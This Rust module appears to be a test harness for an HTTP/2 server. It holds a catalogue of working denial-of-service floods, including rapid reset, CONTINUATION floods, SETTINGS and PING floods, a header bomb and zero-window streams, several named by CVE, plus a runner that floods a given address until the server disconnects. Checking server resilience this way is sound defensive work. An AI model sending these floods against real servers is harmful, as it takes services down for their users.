//! What HTTP/2 connections have been flooded with, each with the name or the number under which the
//! world knows it.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW, WINDOW_UPDATE, block, frame, get, indexed_field, opening,
};

/// A flood.
pub(crate) struct Flood {
    pub(crate) name: &'static str,
    settings: &'static [(u16, u32)],
    first: fn() -> Vec<u8>,
    /// What is sent again and again, by the number of the turn.
    again: fn(u32) -> Vec<u8>,
    /// Whether the client takes what it is sent.
    reads: bool,
}

const NOTHING: fn() -> Vec<u8> = Vec::new;

pub(crate) const FLOODS: &[Flood] = &[
    flood("rapid reset, CVE-2023-44487", NOTHING, |turn| {
        in_a_row(turn, |stream| [get(stream, "/"), reset(stream)].concat())
    }),
    flood("rapid reset of what takes time", NOTHING, |turn| {
        in_a_row(turn, |stream| [get(stream, "/wait"), reset(stream)].concat())
    }),
    flood("the server made to reset, CVE-2025-8671", NOTHING, |turn| {
        in_a_row(turn, |stream| {
            let overflow = 0x7fff_ffff_u32.to_be_bytes();
            [get(stream, "/wait"), frame(WINDOW_UPDATE, 0, stream, &overflow)].concat()
        })
    }),
    flood("streams that depend on themselves", NOTHING, |turn| {
        in_a_row(turn, |stream| {
            let itself = [&stream.to_be_bytes()[..], &[0]].concat();
            [get(stream, "/wait"), frame(PRIORITY, 0, stream, &itself)].concat()
        })
    }),
    flood("continuation without end, CVE-2024-27316", open_head, |_| {
        let fields = [&b"\x10\x01x\x01y"[..]; 1000].concat();
        frame(CONTINUATION, 0, 1, &fields)
    }),
    flood("empty continuation, CVE-2024-27983", open_head, |_| {
        frame(CONTINUATION, 0, 1, &[]).repeat(1000)
    }),
    flood("settings, CVE-2019-9515", NOTHING, |_| frame(SETTINGS, 0, 0, &[]).repeat(1000)),
    flood("pings, CVE-2019-9512", NOTHING, |_| frame(PING, 0, 0, &[0; 8]).repeat(1000)),
    deaf("settings whose answers are not taken", NOTHING, |_| {
        frame(SETTINGS, 0, 0, &[]).repeat(1000)
    }),
    deaf("pings whose answers are not taken", NOTHING, |_| frame(PING, 0, 0, &[0; 8]).repeat(1000)),
    deaf("requests whose answers are not taken", NOTHING, |turn| {
        in_a_row(turn, |stream| get(stream, "/"))
    }),
    flood("a header bomb", bomb_is_laid, |turn| {
        // One byte for each field of 4,000: 16 MB out of 4 KiB.
        in_a_row(turn + 1, |stream| {
            let block = [block("GET", "/"), vec![0x80 | 0x3e; 4000]].concat();
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
        })
    }),
    flood("more streams than allowed", NOTHING, |turn| {
        in_a_row(turn, |stream| get(stream, "/wait"))
    }),
    flood("streams without window, CVE-2019-9517", NOTHING, |turn| {
        in_a_row(turn, |stream| get(stream, "/large"))
    })
    .with_settings(&[(WINDOW, 0)]),
    flood("empty data, CVE-2019-9518", post, |_| frame(DATA, 0, 1, &[]).repeat(1000)),
    flood("data that was not asked for", post, |_| frame(DATA, 0, 1, &[0; 16_000])),
    flood("frames of no known kind", NOTHING, |_| frame(0x42, 0, 0, &[0; 16_000])),
    flood("window updates", NOTHING, |_| {
        frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()).repeat(1000)
    }),
];

const fn flood(name: &'static str, first: fn() -> Vec<u8>, again: fn(u32) -> Vec<u8>) -> Flood {
    Flood { name, settings: &[], first, again, reads: true }
}

const fn deaf(name: &'static str, first: fn() -> Vec<u8>, again: fn(u32) -> Vec<u8>) -> Flood {
    Flood { name, settings: &[], first, again, reads: false }
}

impl Flood {
    const fn with_settings(self, settings: &'static [(u16, u32)]) -> Self {
        Self { settings, ..self }
    }

    /// Floods until the server has had enough; whether it had before `deadline`.
    pub(crate) async fn run(&self, addr: SocketAddr, deadline: Duration) -> bool {
        let stream = TcpStream::connect(addr).await.expect("connected");
        let (mut from, mut to) = stream.into_split();
        let reads = self.reads;
        let reading = async move {
            let mut scrap = vec![0; 64 * 1024];
            while reads && from.read(&mut scrap).await.is_ok_and(|count| count > 0) {}
            if !reads {
                std::future::pending::<()>().await;
            }
        };
        let writing = async move {
            let first = [opening(self.settings), (self.first)()].concat();
            let mut is_open = to.write_all(&first).await.is_ok();
            for turn in 0.. {
                is_open = is_open && to.write_all(&(self.again)(turn)).await.is_ok();
                if !is_open {
                    return;
                }
            }
        };
        let over = async {
            tokio::select! {
                () = reading => {}
                () = writing => {}
            }
        };
        tokio::time::timeout(deadline, over).await.is_ok()
    }
}

/// Twenty streams, each a new one in every turn.
fn in_a_row(turn: u32, each: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..20).flat_map(|number| each((turn * 20 + number) * 2 + 1)).collect()
}

fn reset(stream: u32) -> Vec<u8> {
    const CANCEL: u32 = 8;
    frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())
}

fn open_head() -> Vec<u8> {
    frame(HEADERS, 0, 1, &block("GET", "/"))
}

fn post() -> Vec<u8> {
    frame(HEADERS, END_HEADERS, 1, &block("POST", "/echo"))
}

fn bomb_is_laid() -> Vec<u8> {
    let block = [block("GET", "/"), indexed_field("x", &"y".repeat(4000))].concat();
    frame(HEADERS, END_HEADERS | END_STREAM, 1, &block)
}
